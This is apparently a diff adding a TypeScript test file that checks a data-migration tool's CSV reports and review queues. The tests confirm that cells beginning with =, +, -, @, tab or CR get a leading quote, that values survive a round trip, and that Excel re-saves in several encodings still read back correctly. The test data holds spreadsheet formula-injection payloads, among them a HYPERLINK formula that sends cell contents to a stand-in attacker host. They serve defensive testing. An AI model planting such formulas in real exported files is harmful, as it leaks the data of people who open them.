@@ -1,0 +1,122 @@
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
+import iconv from 'iconv-lite';
+import { describe, expect, it } from 'vitest';
+import { RowReportWriter } from '../../../engine/reports/row-report-writer.js';
+import { QueueWriter, readQueues, queuePath } from '../../../engine/run/queue-resolutions.js';
+import type { QueueRow } from '../../../engine/run/load-runner.js';
+
+/** Values a spreadsheet would run as formulas, a harmless one, and one a person typed with a leading quote. */
+const HOSTILE = ['=1+2', '+44 20 7946 0000', '-5', '@SUM(A1:A9)', '\t=cmd', '\r=cmd', '=HYPERLINK("http://evil.example/?"&A1)'];
+const VALUES = [...HOSTILE, "'quoted by a person", "''twice", 'plain value', ''];
+
+function queueRow(value: string, i: number): QueueRow {
+  return { file: 'contacts.csv', line: i + 2, load: 'contacts', source_key: value, column: 'Company ID', value, reason: `no company ${value}`, resolution: value };
+}
+
+async function writeQueue(dir: string, values: readonly string[]): Promise<void> {
+  const writer = new QueueWriter(dir, 'orphans');
+  values.forEach((v, i) => writer.write(queueRow(v, i)));
+  await writer.close();
+}
+
+describe('CSVs written for people', () => {
+  it('given cells starting with =, +, -, @, tab or CR, writes each with a leading quote so a spreadsheet shows text', async () => {
+    const path = join(mkdtempSync(join(tmpdir(), 'report-')), 'exceptions.csv');
+    const writer = new RowReportWriter<{ line: number; value: string }>(path, ['line', 'value']);
+    VALUES.forEach((value, i) => writer.write({ line: -i, value }));
+    await writer.close();
+    const raw = readSpreadsheetCsvRaw(path);
+    expect(raw).toHaveLength(VALUES.length);
+    expect(raw.map((r) => r.value)).toEqual([...HOSTILE.map((v) => `'${v}`), "''quoted by a person", "'''twice", 'plain value', '']);
+    // Numbers are ours (line numbers), not the customer's: written as numbers.
+    expect(raw.map((r) => r.line)).toEqual(VALUES.map((_, i) => String(-i)));
+  });
+
+  it('given a queue written and read back, every value comes back exactly, leading quotes included', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'queue-'));
+    await writeQueue(dir, VALUES);
+    const { rows, resolutions } = readQueues(dir);
+    const read = rows.get('orphans') ?? [];
+    expect(read).toHaveLength(VALUES.length);
+    expect(read.map((r) => r['value'])).toEqual(VALUES);
+    expect(read.map((r) => r['source_key'])).toEqual(VALUES);
+    expect(resolutions.size).toBe(VALUES.length - 1); // the blank answer leaves its row held
+  });
+});
+
+describe('queue files saved again by a spreadsheet', () => {
+  /** What Excel writes on "Save as CSV" in a European locale: `;` between cells, CRLF, and the chosen encoding. */
+  function excelSave(dir: string, encode: (text: string) => Buffer): void {
+    // Excel keeps the cells as it shows them: with the quote our writer added.
+    const read = readSpreadsheetCsvRaw(queuePath(dir, 'orphans'));
+    const header = 'file;line;load;source_key;column;value;reason;resolution';
+    const cell = (v: string): string => (/[;"\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);
+    const lines = read.map((r, i) => [r['file'], r['line'], r['load'], r['source_key'], r['column'], r['value'], r['reason'], i === 0 ? 'Café Müller €' : r['resolution']].map((v) => cell(v ?? '')).join(';'));
+    writeFileSync(queuePath(dir, 'orphans'), encode([header, ...lines].join('\r\n') + '\r\n'));
+  }
+
+  it.each([
+    ['Windows-1252', (text: string) => iconv.encode(text, 'windows-1252')],
+    ['UTF-8 with BOM', (text: string) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')])],
+    ['UTF-16 (Unicode Text)', (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(text, 'utf-16le')])],
+  ])('given a ;-separated file in %s, reads every row, the answers and the accented answer exactly', async (_name, encode) => {
+    const dir = mkdtempSync(join(tmpdir(), 'queue-excel-'));
+    const values = ['=1+2', '-5', '@x', "'kept", 'Zoë & Søn'];
+    await writeQueue(dir, values);
+    excelSave(dir, encode);
+    const { rows, resolutions } = readQueues(dir);
+    const read = rows.get('orphans') ?? [];
+    expect(read.map((r) => r['value'])).toEqual(values);
+    expect(read[0]?.['resolution']).toBe('Café Müller €');
+    expect(resolutions.get(['contacts', '=1+2', 'Company ID'].join('\u0000'))).toBe('Café Müller €');
+    expect(resolutions.get(['contacts', "'kept", 'Company ID'].join('\u0000'))).toBe("'kept");
+  });
+});
+
+describe('the owner queue', () => {
+  it('given 5 records of one unknown owner and 2 of another over two loads, writes one row per owner with their counts', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'owners-'));
+    const writer = new QueueWriter(dir, 'owners');
+    const held = [
+      ...Array.from({ length: 3 }, (_, i) => ({ load: 'contacts', file: 'contacts.csv', line: i + 2, owner: 'Jo Blogs' })),
+      ...Array.from({ length: 2 }, (_, i) => ({ load: 'opportunities', file: 'deals.csv', line: i + 5, owner: 'jo blogs ' })),
+      ...Array.from({ length: 2 }, (_, i) => ({ load: 'contacts', file: 'contacts.csv', line: i + 9, owner: '=evil()' })),
+    ];
+    held.forEach((h, i) => writer.write({ file: h.file, line: h.line, load: h.load, source_key: String(i), column: 'Owner', value: h.owner, reason: `no destination user matches ${h.owner}`, resolution: '' }));
+    await writer.close();
+    expect(writer.rows).toBe(2);
+
+    const text = readFileSync(queuePath(dir, 'owners'), 'utf8');
+    expect(text.split('\n')[0]).toBe('owner,records,loads,first_row,reason,resolution');
+    const rows = readQueues(dir).rows.get('owners') ?? [];
+    expect(rows.map((r) => [r['owner'], r['records'], r['loads'], r['first_row']])).toEqual([
+      ['Jo Blogs', '5', 'contacts: 3; opportunities: 2', 'contacts.csv:2'],
+      ['=evil()', '2', 'contacts: 2', 'contacts.csv:9'],
+    ]);
+    expect(text).toContain("'=evil()");
+  });
+
+  it('given an answer on an owner row, resolves every record of that owner, in any load, and keeps the answer when the owner is no longer held', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'owners-answer-'));
+    const first = new QueueWriter(dir, 'owners');
+    first.write({ file: 'contacts.csv', line: 2, load: 'contacts', source_key: '1', column: 'Owner', value: 'Jo Blogs', reason: 'unknown', resolution: '' });
+    await first.close();
+    const text = readFileSync(queuePath(dir, 'owners'), 'utf8').replace(/,$/m, ',jo@northwind.example');
+    writeFileSync(queuePath(dir, 'owners'), text);
+
+    const { rows, resolutions } = readQueues(dir);
+    expect([...resolutions]).toEqual([['owner\u0000jo blogs', 'jo@northwind.example']]);
+    const next = new QueueWriter(dir, 'owners');
+    next.keepResolved(rows.get('owners') ?? []);
+    await next.close();
+    expect(readQueues(dir).rows.get('owners')?.map((r) => [r['owner'], r['resolution']])).toEqual([['Jo Blogs', 'jo@northwind.example']]);
+  });
+});
+
+function readSpreadsheetCsvRaw(path: string): Record<string, string>[] {
+  // The cells as a spreadsheet sees them: CSV quoting undone, no leading quote removed.
+  return parse(readFileSync(path), { columns: true }) as Record<string, string>[];
+}
